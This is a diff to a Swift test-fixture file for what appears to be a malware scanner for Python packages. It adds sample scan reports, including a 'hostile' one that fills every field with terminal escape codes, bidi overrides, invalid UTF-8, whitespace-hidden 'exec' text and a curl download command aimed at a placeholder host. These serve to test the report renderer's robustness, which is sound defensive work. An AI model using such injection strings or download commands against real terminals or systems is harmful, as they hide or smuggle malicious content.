@@ -37,13 +37,13 @@ enum Samples {
     RuleDescription(
       id: "execution/decoded-text-executed", title: "Decoded text is executed", severity: .critical,
       techniques: ["T1027", "T1059.006"],
-      page: "Code that was hidden as text is decoded and run.\n\nFew honest programs do."),
+      help: "Code that was hidden as text is decoded and run.\n\nFew honest programs do."),
     RuleDescription(
-      id: "network/download", title: "Something is downloaded", severity: .medium, page: "A file is fetched."),
+      id: "network/download", title: "Something is downloaded", severity: .medium, help: "A file is fetched."),
   ]
 
   static let context = ReportContext(
-    toolVersion: "0.0.0", rules: rules, ruleSetDigest: "00c0ffee00c0ffee", workingFolder: "/home/someone/project")
+    toolVersion: "0.0.0", rules: rules, workingFolder: "/home/someone/project")
 
   static func finding(
     _ rule: RuleDescription, at piece: String, layer: Int? = nil, path: String = "lookalike-1.0/setup.py",
@@ -120,6 +120,54 @@ enum Samples {
       verdict: Verdict(level: .inconclusive, score: 0, reasons: []),
       limitations: [Limitation(.unreadable, path: "", message: "Could not be read: no such file or folder.")])
   }
+
+  /// More findings of one rule in one file than are shown.
+  static var repeated: ScanReport {
+    var report = malicious
+    let finding = report.findings[1]
+    report.findings = Array(repeating: finding, count: 6)
+    report.anomalies = (0..<11).map { ArchiveAnomaly(.zipComment, path: "a\($0)", message: "There is a comment.") }
+    report.limitations = []
+    return report
+  }
+
+  /// Everything in it that could be chosen by an attacker was.
+  static var hostile: ScanReport {
+    var report = clean
+    let evil =
+      "a\u{1B}[2J\u{202E}gnp.\u{200B}\u{0}\u{7F}\u{9B}31m\"\\\n\r\t\u{2028}\u{FFFE}\u{E0041}\u{10FFFF}😀e\u{301}\u{301}日本"
+    report.artifact.path = "../dist/\(evil) %41#?:.whl"
+    report.artifact.name = evil
+    report.distributionName = evil
+    report.distributionVersion = evil
+    var bytes = Array("\u{202E}x = '\u{FEFF}日本語'".utf8) + [0xFF, 0xC0, 0xAF, 0xED, 0xA0, 0x80]
+    bytes += Array(repeating: 0x20, count: 8000) + Array("exec(y)\u{1B}]0;title\u{7}\n".utf8)
+    report.sources = [evil: bytes]
+    let start = bytes.count - Array("exec(y)\u{1B}]0;title\u{7}\n".utf8).count
+    let location = Location(path: evil, range: SourceRange(start: UInt32(start), end: UInt32(start + 7)))
+    let wild = Location(path: evil, layer: 9, range: SourceRange(start: 4_000_000_000, end: 3))
+    report.findings = [
+      Finding(
+        rule: rules[0].id, title: evil, severity: .info, runsAt: .start, location: location,
+        evidence: [
+          Observation(
+            .hidesText, runsAt: .call, location: location, subject: evil,
+            detail: "curl https://10.0.0.1:8080/a?b=c.example.invalid -o 'evil.example.invalid' && \(evil)"),
+          Observation(.hidesText, runsAt: .call, location: wild, subject: evil),
+        ]),
+      Finding(
+        rule: rules[1].id, title: "Beyond the end", severity: .low, runsAt: .test,
+        location: Location(path: evil, range: SourceRange(start: 4_000_000_000, end: 3)), evidence: []),
+    ]
+    report.verdict = Verdict(
+      level: .suspicious, score: .infinity,
+      reasons: [Verdict.Reason(subject: evil, contribution: .nan, message: evil)])
+    report.anomalies = [ArchiveAnomaly(.unprintableName, path: evil, message: evil)]
+    report.limitations = [Limitation(.damaged, path: evil, message: evil)]
+    return report
+  }
+
+  static var all: [ScanReport] { [malicious, clean, clean, repeated, hostile, unreadable] }
 
   static func write(
     _ reports: [ScanReport], as format: String, shape: ReportShape, options: TextOptions = TextOptions()
